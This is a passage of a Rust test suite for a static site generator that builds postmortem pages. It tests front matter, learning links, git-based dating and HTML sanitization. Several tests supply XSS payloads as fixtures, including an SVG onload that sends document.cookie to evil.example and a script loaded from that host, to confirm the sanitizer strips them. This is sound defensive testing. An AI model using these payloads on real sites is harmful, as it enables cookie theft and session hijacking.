        assert!(page.contains(&format!("<title>{title}")), "{path}: {page}");
    }
}

#[test]
fn a_postmortem_with_hugo_style_toml_front_matter_builds_with_its_fields_and_not_as_body_text() {
    let site = Site::with(&[(
        "content/2024-03-01-hugo.md",
        "+++\n\
         id = \"PM2024-011\"\n\
         title = \"Hugo style\"\n\
         date = 2024-03-01\n\
         severity = \"SEV1\"\n\
         tags = [\"dns\", \"migration\"]\n\
         started_at = 2024-03-01T10:00:00Z\n\
         resolved_at = 2024-03-01T11:30:00Z\n\
         \n\
         [[learnings]]\n\
         text = \"A long TTL keeps a bad record alive for hours\"\n\
         \n\
         [[action_items]]\n\
         text = \"Lower the TTL of the apex record\"\n\
         owner = \"team-dns\"\n\
         status = \"done\"\n\
         due = 2024-03-15\n\
         +++\n\
         \n\
         ## Summary\n\
         \n\
         A record pointed at the old load balancer for ninety minutes.\n",
    )]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let i = &incidents[0];
    assert_eq!(
        (&i["id"], &i["title"], &i["date"], &i["severity"]),
        (
            &serde_json::json!("PM2024-011"),
            &serde_json::json!("Hugo style"),
            &serde_json::json!("2024-03-01"),
            &serde_json::json!("SEV1")
        )
    );
    assert_eq!(i["tags"], serde_json::json!(["dns", "migration"]));
    assert_eq!(
        i["summary"],
        "A record pointed at the old load balancer for ninety minutes."
    );
    assert_eq!(
        i["learnings"],
        serde_json::json!([{"text": "A long TTL keeps a bad record alive for hours", "learning": null, "linked_by": null}])
    );
    assert_eq!(
        i["action_items"],
        serde_json::json!([{"text": "Lower the TTL of the apex record", "owner": "team-dns",
                            "status": "done", "due": "2024-03-15", "ticket": null, "learning": null, "linked_by": null}])
    );
    let page = site.text("incidents/PM2024-011/index.html");
    assert!(!page.contains("+++"), "{page}");
    assert!(!page.contains("severity ="), "{page}");
    assert!(
        page.contains("SeveritySEV1 Time to resolve1 h 30 min"),
        "{page}"
    );
}

#[test]
fn the_export_says_who_linked_each_learning_and_whether_an_incident_states_it_or_only_addresses_it()
{
    let pm = |id: &str, date: &str, learning: &str, action: &str| {
        format!(
            "---\nid: {id}\ntitle: Outage {id}\n{date}learnings:\n{learning}\
             action_items:\n{action}---\n\nWhat happened.\n"
        )
    };
    // PM-1: its authors cite the learning on a learning and on an action item.
    let a = pm(
        "PM-1",
        "date: 2021-03-01\n",
        "  - id: retry-budgets\n    text: Clients retried without limit.\n",
        "  - text: Cap retries in the mobile client\n    status: done\n    learning: retry-budgets\n",
    );
    // PM-2: similarity links its learning (it says the canonical learning in other words).
    let b = pm(
        "PM-2",
        "date: 2022-03-01\n",
        "  - Retries need a budget, so that a failing dependency is not hammered by every client.\n",
        "  - text: Move the batch job to a quieter hour\n    status: open\n",
    );
    // PM-3: only an action item addresses it, linked by its authors.
    let c = pm(
        "PM-3",
        "date: 2023-03-01\n",
        "  - id: none\n    text: The on-call rota had a gap over the holidays.\n",
        "  - text: Add a retry budget to the importer\n    status: open\n    learning: retry-budgets\n",
    );
    // PM-4: dated only by the year in its file name; its authors cite the learning by an alias.
    let d = pm(
        "PM-4",
        "",
        "  - id: client-retries\n    text: The importer retried forever.\n",
        "  - text: Page the owner of the importer\n    status: open\n",
    );
    // PM-5: only an action item addresses it, linked by similarity.
    let e = pm(
        "PM-5",
        "date: 2024-03-01\n",
        "  - id: none\n    text: The status page was updated late.\n",
        "  - text: Bound retries in the web client with a retry budget so a failing dependency is not hammered\n    status: open\n",
    );
    let site = Site::with(&[
        (
            "content/learnings/retry-budgets.md",
            "---\ntitle: Retries need a budget\naliases: [client-retries]\n---\n\nBound retries so that a failing dependency is not hammered by clients.\n",
        ),
        ("content/postmortems/pm-1.md", &a),
        ("content/postmortems/pm-2.md", &b),
        ("content/postmortems/pm-3.md", &c),
        ("content/postmortems/pm2020-4.md", &d),
        ("content/postmortems/pm-5.md", &e),
    ]);
    site.build_ok();
    let incident = |id: &str| site.incident(id);
    let (pm1, pm2, pm3, pm4, pm5) = (
        incident("PM-1"),
        incident("PM-2"),
        incident("PM-3"),
        incident("PM-4"),
        incident("PM-5"),
    );
    // Each link to a learning says who made it; the fields scripts read stay as they were.
    assert_eq!(pm1["learnings"][0]["learning"], "retry-budgets");
    assert_eq!(pm1["learnings"][0]["linked_by"], "authors");
    assert_eq!(pm1["action_items"][0]["learning"], "retry-budgets");
    assert_eq!(pm1["action_items"][0]["linked_by"], "authors");
    assert_eq!(pm2["learnings"][0]["learning"], "retry-budgets", "{pm2}");
    assert_eq!(pm2["learnings"][0]["linked_by"], "similarity");
    assert_eq!(pm2["action_items"][0]["learning"], serde_json::Value::Null);
    assert_eq!(pm2["action_items"][0]["linked_by"], serde_json::Value::Null);
    assert_eq!(pm3["learnings"][0]["linked_by"], serde_json::Value::Null);
    assert_eq!(pm3["action_items"][0]["linked_by"], "authors");
    assert_eq!(pm4["learnings"][0]["learning"], "retry-budgets");
    assert_eq!(pm4["learnings"][0]["linked_by"], "authors");
    assert_eq!(pm5["action_items"][0]["learning"], "retry-budgets", "{pm5}");
    assert_eq!(pm5["action_items"][0]["linked_by"], "similarity");
    // A date known only to the year is 1 January of it, and says so; no severity is null.
    assert_eq!(pm4["date"], "2020-01-01");
    assert_eq!(pm4["date_precision"], "year");
    assert_eq!(pm1["date_precision"], "day");
    assert_eq!(pm1["severity"], serde_json::Value::Null);
    // The learning counts the incidents that state it apart from those that only address it,
    // and says of each how it is linked and by whom.
    let learnings = read_json(&site.out.join("api/learnings.json"));
    let retry = learnings
        .as_array()
        .unwrap()
        .iter()
        .find(|l| l["id"] == "retry-budgets")
        .unwrap();
    assert_eq!(
        retry["incidents"],
        serde_json::json!(["PM-4", "PM-1", "PM-2", "PM-3", "PM-5"])
    );
    assert_eq!(retry["stated"], 3, "{retry}");
    assert_eq!(retry["addressed_only"], 2, "{retry}");
    assert_eq!(
        retry["incident_links"],
        serde_json::json!([
            {"id": "PM-4", "through": "learning", "linked_by": "authors"},
            {"id": "PM-1", "through": "learning", "linked_by": "authors"},
            {"id": "PM-2", "through": "learning", "linked_by": "similarity"},
            {"id": "PM-3", "through": "action_item", "linked_by": "authors"},
            {"id": "PM-5", "through": "action_item", "linked_by": "similarity"},
        ])
    );
}

/// The body of a postmortem's page: what its Markdown renders to, without the theme's own
/// scripts and markup around it.
fn prose(page: &str) -> &str {
    let start = page
        .find("<div class=\"prose postmortem\">")
        .expect("a postmortem body");
    let end = start
        + page[start..]
            .find("</article>")
            .expect("the end of the article");
    &page[start..end]
}

#[test]
fn a_postmortems_scripts_event_handlers_and_javascript_urls_are_not_published() {
    let site = Site::with(&[(
        "content/xss.md",
        "---\ntitle: Banner\ndate: 2024-03-03\n---\n\n\
         <script>alert('body')</script>\n\n\
         <img src=\"https://example.org/x.png\" onerror=\"alert(2)\" alt=\"x\">\n\n\
         <b onclick=\"alert(3)\">bold</b> and <a href=\"  JavaScript:alert(4)\">raw</a>\n\n\
         <iframe srcdoc=\"<script>alert(5)</script>\"></iframe>\n\n\
         <style>body { display: none }</style>\n\n\
         <object data=\"data:text/html,<script>alert(6)</script>\"></object>\n\n\
         <a href=\"vbscript:msgbox(7)\">vb</a> <details open ontoggle=\"alert(8)\"><summary>s</summary></details>\n\n\
         - [Click](javascript:alert(9))\n- ![chart](javascript:alert(10))\n\
         - <javascript:alert(11)>\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/xss/index.html");
    let body = prose(&page);
    // (The autolink's text, `javascript:alert(11)`, stays: as text.)
    for gone in [
        "<script",
        "onerror",
        "onclick",
        "ontoggle",
        "=\"javascript:",
        "=\"  JavaScript:",
        "vbscript:",
        "srcdoc",
        "data:text/html",
        "<style",
        "display: none",
    ] {
        assert!(!body.contains(gone), "{gone} in {body}");
    }
    // What held them stays, without them.
    for kept in [
        "<img src=\"https://example.org/x.png\" alt=\"x\">",
        "<b>bold</b>",
        "<a>raw</a>",
        "<details open=\"\"><summary>s</summary></details>",
        "<a>Click</a>",
        "<img alt=\"chart\">",
        "<a>javascript:alert(11)</a>",
    ] {
        assert!(body.contains(kept), "{kept} not in {body}");
    }
}

#[test]
fn the_text_of_a_script_or_a_style_sheet_is_in_no_summary_title_or_search_text_as_it_is_in_no_page()
{
    let site = Site::with(&[(
        "content/xss.md",
        "---\nid: PM2024-001\ndate: 2024-03-03\n---\n\n\
         # Banner <script>alert('title')</script>down\n\n\
         Intro <script>alert(1)</script> text <style>.x{color:red}</style>end.\n\n\
         ## Lessons learned\n\n- Alerts <script>alert(2)</script>must page\n",
    )]);
    site.build_ok();
    let inc = site.incident("PM2024-001");
    assert_eq!(inc["title"], "Banner down", "{inc:#}");
    assert_eq!(inc["summary"], "Intro text end.", "{inc:#}");
    assert_eq!(inc["learnings"][0]["text"], "Alerts must page", "{inc:#}");
    // Nowhere: the page, its lede, the home page, the lists, the feed, the export, search.
    for (path, bytes) in tree(&site.out) {
        let text = String::from_utf8_lossy(&bytes);
        for gone in ["alert(", "color:red"] {
            assert!(!text.contains(gone), "{gone} in {path}");
        }
    }
    assert!(site.page("feed.xml").contains("Intro text end."));
}

#[test]
fn the_text_of_a_style_sheet_or_a_script_nested_in_an_svg_or_a_details_is_in_no_summary_or_search_text(
) {
    let site = Site::with(&[(
        "content/svg.md",
        "---\nid: PM2024-001\ndate: 2024-03-03\n---\n\n\
         # Disk <svg width=\"8\"><script>alert('title')</script></svg>full\n\n\
         The graph <svg width=\"10\" height=\"10\"><style>.bar{fill:red}</style>\
         <rect class=\"bar\"/><text>p99</text></svg> shows the disk filling.\n\n\
         <details><summary>More</summary> <style>.x{color:blue}</style> hidden text</details>\n\n\
         ## Lessons learned\n\n- Alerts <svg><g><script>alert(2)</script></g></svg>must page\n\n\
         <svg>\n<style>.a{fill:green}</style>\n<rect class=\"a\"/>\n</svg>\n\n\
         After <svg><math><style>.m{}</style></math></svg>the pictures.\n",
    )]);
    site.build_ok();
    let inc = site.incident("PM2024-001");
    assert_eq!(inc["title"], "Disk full", "{inc:#}");
    // An SVG's own text is shown on the page, so it stays.
    assert_eq!(
        inc["summary"], "The graph p99 shows the disk filling.",
        "{inc:#}"
    );
    assert_eq!(inc["learnings"][0]["text"], "Alerts must page", "{inc:#}");
    // Nowhere: the page, its lede, the lists, the feed, the export, search.
    for (path, bytes) in tree(&site.out) {
        let text = String::from_utf8_lossy(&bytes);
        for gone in ["alert(", "fill:red", "color:blue", "fill:green", ".m{}"] {
            assert!(!text.contains(gone), "{gone} in {path}");
        }
    }
    assert!(site
        .page("feed.xml")
        .contains("The graph p99 shows the disk filling."));
    assert!(site
        .text("incidents/PM2024-001/index.html")
        .contains("After the pictures."));
}

#[test]
fn a_sanitized_body_keeps_what_postmortems_use_and_what_the_site_writes() {
    // The `onclick` has the whole body sanitized: everything else must come through.
    let site = Site::with(&[(
        "content/rich.md",
        "---\ntitle: Rich\ndate: 2024-03-03\n---\n\n\
         ## Timeline {#timeline}\n\n\
         | Left | Centre |\n|:-----|:------:|\n| a | b |\n\n\
         - [x] done\n- [ ] open\n\n\
         Footnote[^n].\n\n[^n]: The note.\n\n\
         ```rust\nfn main() {}\n```\n\n\
         <details open>\n<summary>Logs</summary>\n\nText\n\n</details>\n\n\
         <p align=\"center\"><img src=\"https://example.org/c.png\" width=\"600\" alt=\"chart\"></p>\n\n\
         <figure><img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\"><figcaption>Press <kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup></figcaption></figure>\n\n\
         <a id=\"raw-anchor\"></a>\n\n\
         <iframe src=\"https://grafana.example.org/d/x\" width=\"600\" height=\"300\" title=\"dash\"></iframe>\n\n\
         <span class=\"warning\" style=\"color: red; position: fixed\">red</span> <!-- a note -->\n\n\
         <b onclick=\"alert(1)\">x</b>\n",
    )]);
    site.build_ok();
    let page = site.page("incidents/rich/index.html");
    let body = prose(&page);
    assert!(!body.contains("onclick"), "{body}");
    for kept in [
        "<h2 id=\"timeline\">Timeline <a class=\"anchor\" href=\"#timeline\" aria-label=\"Link to this section: Timeline\">#</a></h2>",
        "<div class=\"table-wrap short-first\" role=\"region\" aria-label=\"Timeline table\" tabindex=\"0\"><table>",
        "<th style=\"text-align:center\">Centre</th>",
        "<input type=\"checkbox\" disabled=\"\" checked=\"\" aria-label=\"done\">",
        "<sup class=\"footnote-reference\"><a href=\"#fn-n\">1</a></sup>",
        "<div class=\"footnote-definition\" id=\"fn-n\">",
        "<pre class=\"code\" tabindex=\"0\"><code class=\"language-rust\"><span class=\"hl-source hl-rust\">",
        "<details open=\"\">\n<summary>Logs</summary>",
        "<p align=\"center\"><img src=\"https://example.org/c.png\" width=\"600\" alt=\"chart\"></p>",
        "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
        "<kbd>Ctrl</kbd>, H<sub>2</sub>O, x<sup>2</sup></figcaption></figure>",
        "<a id=\"raw-anchor\"></a>",
        "<iframe src=\"https://grafana.example.org/d/x\" width=\"600\" height=\"300\" title=\"dash\"></iframe>",
        // A style attribute keeps colours, sizes and alignment, nothing that moves an element.
        "<span class=\"warning\" style=\"color:red\">red</span> <!-- a note -->",
    ] {
        assert!(body.contains(kept), "{kept} not in {body}");
    }
}

#[test]
fn a_utf16_postmortem_is_read_as_text() {
    // As Windows PowerShell 5.1's `Out-File` writes it (UTF-16LE with a byte order mark and
    // CRLF), and big-endian.
    let text = |id: &str| {
        format!("---\r\nid: {id}\r\ntitle: Café outage\r\ndate: 2024-03-03\r\n---\r\n\r\n## What happened\r\n\r\nThe café's till 🧾 stopped.\r\n")
    };
    let le: Vec<u8> = [0xff, 0xfe]
        .into_iter()
        .chain(text("INC-10").encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    let be: Vec<u8> = [0xfe, 0xff]
        .into_iter()
        .chain(text("INC-11").encode_utf16().flat_map(u16::to_be_bytes))
        .collect();
    let site = Site::empty();
    std::fs::create_dir_all(site.root.join("content")).unwrap();
    std::fs::write(site.root.join("content/INC-10-utf16.md"), le).unwrap();
    std::fs::write(site.root.join("content/INC-11-utf16be.md"), be).unwrap();
    site.build_ok();
    for id in ["INC-10", "INC-11"] {
        let page = site.text(&format!("incidents/{id}/index.html"));
        assert!(page.contains("Café outage"), "{page}");
        assert!(page.contains("The café's till 🧾 stopped."), "{page}");
        assert!(page.contains("2024-03-03"), "{page}");
    }
}

/// A built site of two canonical learnings seen in two incidents each: `alpha`, stated by one
/// and addressed only by an action item of the other (the later, 2020-01-06), and `beta`,
/// stated by both (2020-01-03 and 2020-01-04).
fn alpha_beta_site() -> Site {
    let pm = |k: u32, links: &str| {
        (
            format!("content/postmortems/pm-{k}.md"),
            format!("---\nid: PM-{k}\ntitle: Outage {k}\ndate: 2020-01-0{k}\nseverity: SEV3\n{links}---\n\nBody {k}.\n"),
        )
    };
    let states = |id: &str| format!("learnings:\n  - id: {id}\n    text: We learned {id}.\n");
    let files = [
        (
            "content/learnings/alpha.md".to_string(),
            "---\ntitle: Alpha lesson\n---\n\nAlpha.\n".to_string(),
        ),
        (
            "content/learnings/beta.md".to_string(),
            "---\ntitle: Beta lesson\n---\n\nBeta.\n".to_string(),
        ),
        pm(3, &states("beta")),
        pm(4, &states("beta")),
        pm(5, &states("alpha")),
        pm(
            6,
            "action_items:\n  - text: Do alpha\n    learning: alpha\n",
        ),
    ];
    let files: Vec<(&str, &str)> = files
        .iter()
        .map(|(p, t)| (p.as_str(), t.as_str()))
        .collect();
    let site = Site::with(&files);
    site.build_ok();
    site
}

#[test]
fn counts_that_include_incidents_which_only_filed_an_action_item_do_not_say_learned() {
    // Three incidents: PM-01 states the lesson, PM-02 and PM-03 only file an action item.
    let site = retry_site(3, |k| k == 1);
    let home = site.text("index.html");
    assert!(
        home.contains("1 learning seen in more than one incident; 0 stated in two or more postmortems, 1 recurring through action items"),
        "{home}"
    );
    assert!(!home.contains("We learned these more than once"), "{home}");
    assert!(home.contains("Retry with backoff 3 incidents"), "{home}");
    assert!(
        home.contains("learned in 1, 2 only through an action item"),
        "{home}"
    );
    assert!(!home.contains("3×"), "{home}");
    let list = site.text("learnings/index.html");
    assert!(
        list.contains("learned in 1, 2 only through an action item"),
        "{list}"
    );
    assert!(!list.contains("we learned it more than once"), "{list}");
    let page = site.text("learnings/retry/index.html");
    assert!(!page.contains("Incidents that taught this"), "{page}");
    assert!(
        page.contains("Incidents linked to this 3 1 learned it, 2 only through an action item."),
        "{page}"
    );
    // A lesson no incident states says so, in words for two and for more.
    let none = retry_site(2, |_| false);
    let page = none.text("learnings/retry/index.html");
    assert!(
        page.contains("Incidents linked to this 2 None of them states it: both are linked only through an action item."),
        "{page}"
    );
    let page = retry_site(3, |_| false).text("learnings/retry/index.html");
    assert!(
        page.contains("Incidents linked to this 3 None of them states it: all 3 are linked only through an action item."),
        "{page}"
    );
    let list = none.text("learnings/index.html");
    assert!(list.contains("in action items only"), "{list}");
    // The build's summary line counts incidents, not lessons learned.
    let out = bin()
        .args(["build", "--root"])
        .arg(&site.root)
        .arg("--out")
        .arg(site.out.join("again"))
        .output()
        .unwrap();
    let said = format!("{}{}", String::from_utf8_lossy(&out.stdout), stderr(&out));
    assert!(
        said.contains("1 learning (1 in two or more incidents)"),
        "{said}"
    );
    assert!(!said.contains("recurring"), "{said}");
}

#[test]
fn learnings_seen_as_often_are_listed_in_the_same_order_everywhere_the_most_stated_first() {
    let site = alpha_beta_site();
    for path in ["index.html", "learnings/index.html"] {
        let text = site.text(path);
        let (alpha, beta) = (
            text.find("Alpha lesson").unwrap(),
            text.find("Beta lesson").unwrap(),
        );
        assert!(beta < alpha, "{path}: {text}");
    }
}

#[test]
fn the_default_reading_path_starts_with_the_lessons_the_most_incidents_state() {
    let site = alpha_beta_site();
    let path = site.text("onboarding/index.html");
    let beta = path.find("Beta lesson").expect("beta is on the path");
    assert!(
        path[beta..].starts_with("Beta lesson Learned in 2 incidents."),
        "{path}"
    );
    // Alpha is stated by one incident only: it is left out while beta is stated by two.
    assert!(!path.contains("Alpha lesson"), "{path}");
}

#[test]
fn two_incidents_that_only_filed_action_items_for_a_learning_are_related_by_their_action_items() {
    // PM-02 and PM-03 state no learning: each only files an action item for `retry`.
    let site = retry_site(3, |k| k == 1);
    let page = site.page("incidents/PM-02/index.html");
    let related = &page[page.find("id=\"related-h\"").unwrap()..];
    let pm03 = related[related.find("PM-03").unwrap()..]
        .split("</li>")
        .next()
        .unwrap();
    assert!(
        pm03.contains("action items on the same learning: Retry with backoff"),
        "{pm03}"
    );
    assert!(!pm03.contains("action item on the same learning"), "{pm03}");
}

#[test]
fn one_more_incident_whose_action_item_addresses_a_learning_is_named_in_the_singular_and_linked() {
    // PM-01 states the learning; the six after it only file an action item for it.
    let site = retry_site(7, |k| k == 1);
    let page = site.page("incidents/PM-01/index.html");
    assert!(
        page.contains(
            "and <a href=\"../../learnings/retry/\">1 more incident</a> are meant to address it."
        ),
        "{page}"
    );
    assert!(!page.contains("more incidents"), "{page}");
}

#[test]
fn a_cluster_page_is_headed_by_its_whole_title_and_lists_cut_it() {
    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("public");
    build_ok(Path::new(env!("CARGO_MANIFEST_DIR")), &out);
    let whole = "Performance tests for a consumer change should replay a real peak hour of messages, not a handful of small synthetic ones";
    let page = std::fs::read_to_string(
        out.join("learnings/performance-tests-for-a-consumer-change-should/index.html"),
    )
    .unwrap();
    assert!(page.contains(&format!("<h1>{whole}</h1>")), "{page}");
    assert!(page.contains(&format!("<title>{whole}")), "{page}");
    let list = std::fs::read_to_string(out.join("learnings/index.html")).unwrap();
    assert!(
        list.contains("Performance tests for a consumer change should replay a real peak hour of messages, not a…</a>"),
        "{list}"
    );
}

#[test]
fn a_hugo_postmortem_reads_categories_as_tags_description_as_summary_and_draft_true_leaves_it_out()
{
    let site = Site::with(&[
        (
            "content/2024-03-01-hugo.md",
            "+++\n\
             id = \"PM2024-011\"\n\
             title = \"Hugo style\"\n\
             date = 2024-03-01\n\
             draft = false\n\
             tags = [\"dns\"]\n\
             categories = [\"dns\", \"networking\"]\n\
             author = \"R.M.\"\n\
             description = \"A record pointed at the old load balancer.\"\n\
             weight = 10\n\
             lastmod = 2024-03-05T10:00:00Z\n\
             aliases = [\"/posts/hugo-style/\"]\n\
             +++\n\
             \n\
             ## Timeline\n\
             \n\
             The record was changed at ten.\n",
        ),
        (
            "content/2024-03-02-draft.md",
            "+++\n\
             id = \"PM2024-012\"\n\
             title = \"Not yet\"\n\
             date = 2024-03-02\n\
             draft = true\n\
             +++\n\
             \n\
             Still being written.\n",
        ),
    ]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let ids: Vec<&str> = incidents
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, ["PM2024-011"]);
    let i = &incidents[0];
    assert_eq!(i["status"], "published");
    assert_eq!(i["tags"], serde_json::json!(["dns", "networking"]));
    assert_eq!(i["summary"], "A record pointed at the old load balancer.");
    assert!(site
        .text("incidents/PM2024-011/index.html")
        .contains("R.M."));
    assert!(site
        .page("posts/hugo-style/index.html")
        .contains("/incidents/PM2024-011/"));
    assert!(!site.out.join("incidents/PM2024-012").exists());
}

#[test]
fn a_learning_cited_by_its_alias_is_linked_by_its_authors_on_every_page() {
    let pm = |id: &str, date: &str, status: &str| {
        format!(
            "---\nid: {id}\ntitle: Outage {id}\ndate: {date}\nlearnings:\n\
             \x20 - id: client-retries\n    text: Clients retried without limit.\n\
             action_items:\n\
             \x20 - text: Cap retries in the mobile client\n    status: {status}\n    learning: client-retries\n\
             ---\n\nWhat happened.\n"
        )
    };
    let site = Site::with(&[
        (
            "content/learnings/retry-budgets.md",
            "---\ntitle: Retries need a budget\naliases: [client-retries]\n---\n\nBound retries so that a failing dependency is not hammered by clients.\n",
        ),
        ("content/postmortems/pm-1.md", &pm("PM-1", "2023-03-01", "done")),
        ("content/postmortems/pm-2.md", &pm("PM-2", "2024-03-01", "open")),
    ]);
    site.build_ok();
    // The learning page: both incidents were linked by their authors, and PM-2 recurred after
    // PM-1's action item for it was done: a claim, not a question.
    let page = site.page("learnings/retry-budgets/index.html");
    assert!(!page.contains("linked by Hindsight"), "{page}");
    let claim = &page[page.find("id=\"recurred-h\"").expect(&page)..];
    let claim = &claim[..claim.find("</section>").unwrap()];
    assert!(
        claim.contains("Outage PM-2</a>") && claim.contains("Outage PM-1</a>"),
        "{claim}"
    );
    assert!(!page.contains("maybe-recurred-h"), "{page}");
    assert!(site
        .page("index.html")
        .contains("<strong>1</strong> recurred after an incident whose action item is now done"));
    // The incident pages agree, and so does the export.
    for id in ["PM-1", "PM-2"] {
        let incident = site.page(&format!("incidents/{id}/index.html"));
        assert!(incident.contains("learnings/retry-budgets/"), "{incident}");
        assert!(!incident.contains("linked by Hindsight"), "{incident}");
    }
    let links = read_json(&site.out.join("api/learnings.json"));
    let text = links.to_string();
    assert!(text.contains("\"linked_by\":\"authors\""), "{text}");
    assert!(!text.contains("\"linked_by\":\"similarity\""), "{text}");
}

#[test]
fn services_named_on_a_metadata_line_of_the_text_are_the_incident_s_services_unless_the_front_matter_names_some(
) {
    let site = Site::with(&[
        (
            "content/postmortems/2022-11-25-push-storm.md",
            "# Push storm\n\n## Summary\n\nThe promotion was sent four times.\n\nSeverity: SEV3. Services involved: notifications, campaign scheduler and ios-app.\n",
        ),
        (
            "content/postmortems/2023-01-10-dns.md",
            "---\ntitle: DNS outage\nservices: [dns]\n---\n\nAffected services: checkout, payments\n",
        ),
    ]);
    site.build_ok();
    let incidents = read_json(&site.out.join("api/incidents.json"));
    let services = |title: &str| {
        incidents
            .as_array()
            .unwrap()
            .iter()
            .find(|i| i["title"] == title)
            .unwrap_or_else(|| panic!("{title} in {incidents}"))["services"]
            .clone()
    };
    assert_eq!(
        services("Push storm"),
        serde_json::json!(["notifications", "campaign scheduler", "ios-app"])
    );
    assert_eq!(services("DNS outage"), serde_json::json!(["dns"]));
}

/// Runs git in `dir` with a fixed identity, failing the test when it fails.
fn git(dir: &Path, args: &[&str], date: &str) {
    let out = std::process::Command::new("git")
        .current_dir(dir)
        .args(["-c", "user.name=Test", "-c", "user.email=test@example.org"])
        .args(args)
        .env("GIT_AUTHOR_DATE", date)
        .env("GIT_COMMITTER_DATE", date)
        .output()
        .expect("git runs");
    assert!(out.status.success(), "git {args:?}: {}", stderr(&out));
}

/// A clone of the repository at `root` that holds its last commit only, as CI services fetch
/// by default: the folder that holds it (kept until dropped), and the clone.
fn shallow_clone(root: &Path) -> (tempfile::TempDir, std::path::PathBuf) {
    let shallow = tempfile::tempdir().unwrap();
    let clone = shallow.path().join("clone");
    let source = format!("file://{}", root.display());
    let args = ["clone", "-q", "--depth", "1", &source, "clone"];
    git(shallow.path(), &args, "2024-01-01T00:00:00+00:00");
    (shallow, clone)
}

#[test]
fn a_postmortem_nothing_else_dates_is_dated_by_the_day_git_first_recorded_it() {
    let site = Site::with(&[(
        "content/no-date.md",
        "# A date nowhere\n\nThe cache was cold.\n",
    )]);
    git(&site.root, &["init", "-q"], "2021-06-15T10:00:00+00:00");
    git(&site.root, &["add", "."], "2021-06-15T10:00:00+00:00");
    git(
        &site.root,
        &["commit", "-q", "-m", "first"],
        "2021-06-15T10:00:00+00:00",
    );
    // A later edit does not move it.
    std::fs::write(
        site.root.join("content/no-date.md"),
        "# A date nowhere\n\nThe cache was cold, and empty.\n",
    )
    .unwrap();
    git(
        &site.root,
        &["commit", "-q", "-am", "edit"],
        "2023-01-02T10:00:00+00:00",
    );
    site.build_ok();
    let inc = site.incident("no-date");
    assert_eq!(inc["date"], "2021-06-15", "{inc}");
    assert_eq!(inc["date_precision"], "day", "{inc}");

    // In a shallow clone the history is cut off: undated, and the build says why.
    let (shallow, clone) = shallow_clone(&site.root);
    let out = shallow.path().join("public");
    let built = build(&clone, &out);
    assert!(built.status.success(), "{}", stderr(&built));
    assert!(exported_incident(&out, "no-date")["date"].is_null());
    let said = stderr(&built);
    assert!(said.contains("shallow-history"), "{said}");
    assert!(said.contains("git fetch --unshallow"), "{said}");
}

#[test]
fn the_sitemap_gives_each_incident_the_later_of_its_date_and_the_day_git_last_recorded_a_change() {
    let site = Site::with(&[
        (
            "content/edited.md",
            "---\ndate: 2021-03-01\n---\n\n# Edited later\n\nThe cache was cold.\n",
        ),
        (
            "content/written-early.md",
            "---\ndate: 2024-05-01\n---\n\n# Dated after its commit\n\nThe queue stalled.\n",
        ),
    ]);
    let at = "2021-06-15T10:00:00+00:00";
    git(&site.root, &["init", "-q"], at);
    git(&site.root, &["add", "."], at);
    git(&site.root, &["commit", "-q", "-m", "first"], at);
    std::fs::write(
        site.root.join("content/edited.md"),
        "---\ndate: 2021-03-01\n---\n\n# Edited later\n\nThe cache was cold, and empty.\n",
    )
    .unwrap();
    git(
        &site.root,
        &["commit", "-q", "-am", "edit"],
        "2023-01-02T10:00:00+00:00",
    );
    // Not committed yet: its own date.
    write_files(
        &site.root,
        &[(
            "content/new.md",
            "---\ndate: 2022-02-02\n---\n\n# Not committed\n\nThe disk filled.\n",
        )],
    );
    let lastmod = |out: &Path, id: &str| {
        let sitemap = std::fs::read_to_string(out.join("sitemap.xml")).unwrap();
        let line = sitemap
            .lines()
            .find(|l| l.contains(&format!("incidents/{id}/<")))
            .unwrap_or_else(|| panic!("no {id} in {sitemap}"))
            .to_string();
        line.split("<lastmod>")
            .nth(1)
            .and_then(|rest| rest.split("</lastmod>").next())
            .unwrap_or_else(|| panic!("no lastmod in {line}"))
            .to_string()
    };
    site.build_ok();
    assert_eq!(lastmod(&site.out, "edited"), "2023-01-02");
    assert_eq!(lastmod(&site.out, "written-early"), "2024-05-01");
    assert_eq!(lastmod(&site.out, "new"), "2022-02-02");
    // The incident keeps the date it gives.
    assert_eq!(site.incident("edited")["date"], "2021-03-01");

    // A shallow clone's history is cut off: each incident's own date, and no warning when
    // every incident has one.
    let (shallow, clone) = shallow_clone(&site.root);
    let out = shallow.path().join("public");
    let built = build(&clone, &out);
    assert!(built.status.success(), "{}", stderr(&built));
    assert!(
        !stderr(&built).contains("shallow-history"),
        "{}",
        stderr(&built)
    );
    assert_eq!(lastmod(&out, "edited"), "2021-03-01");
}

#[test]
fn an_svg_or_html_attachment_is_published_without_its_scripts_and_one_without_any_byte_for_byte() {
    let chart = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"   width='40' height=\"20\">\n  <a href=\"https://example.org/\"><rect width=\"40\" height=\"20\" fill=\"#09c\"/></a>\n</svg>\n";
    let diagram = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"40\" height=\"20\" onload=\"fetch('//evil.example/'+document.cookie)\">\n  <script>alert(document.domain)</script>\n  <rect width=\"40\" height=\"20\" fill=\"#09c\"/>\n  <a href=\"javascript:alert(1)\"><text y=\"15\">map</text></a>\n</svg>\n";
    let report = "<!DOCTYPE html>\n<html lang=\"en\"><head><title>Load test</title><style>td{color:#333}</style></head>\n<body><table><tr><td onmouseover=\"alert(1)\">p99</td></tr></table>\n<script src=\"https://evil.example/x.js\"></script></body></html>\n";
    let safe = "<!DOCTYPE html>\n<html><head><title>Load test</title></head><body><p>p99 doubled</p></body></html>\n";
    let site = Site::with(&[
        (
            "content/postmortems/2024-03-01-outage.md",
            "# Outage\n\n![the service map](chart.svg)\n\nSee the [diagram](diagram.svg), the [report](report.html) and the [summary](safe.htm).\n",
        ),
        ("content/postmortems/chart.svg", chart),
        ("content/postmortems/diagram.svg", diagram),
        ("content/postmortems/report.html", report),
        ("content/postmortems/safe.htm", safe),
    ]);
    let o = site.build();
    assert!(o.status.success(), "{}", stderr(&o));
